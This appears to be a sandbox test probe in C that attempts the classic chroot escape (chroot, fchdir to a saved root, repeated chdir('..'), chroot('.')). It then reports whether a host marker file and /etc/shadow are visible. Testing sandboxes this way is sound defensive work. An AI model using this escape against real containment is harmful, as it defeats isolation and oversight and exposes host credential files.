// The classic chroot escape: mkdir + chroot + chdir("..") many times + chroot("."), then look for a
// host marker file (argv[1]) that only exists on the host.
#include "probe.h"
#include <fcntl.h>
#include <sys/stat.h>
int main(int argc, char **argv) {
    require_sandbox();
    mkdir("/tmp/esc", 0755);
    int keep = open("/", O_RDONLY | O_DIRECTORY);
    result("chroot", chroot("/tmp/esc"), 0);
    result("fchdir", fchdir(keep), 0);
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    result("chroot_dot", chroot("."), 0);
    struct stat st;
    printf("marker=%s\n", argc > 1 && stat(argv[1], &st) == 0 ? "VISIBLE" : "ABSENT");
    printf("shadow=%s\n", stat("/etc/shadow", &st) == 0 ? "VISIBLE" : "ABSENT");
    return 0;
}
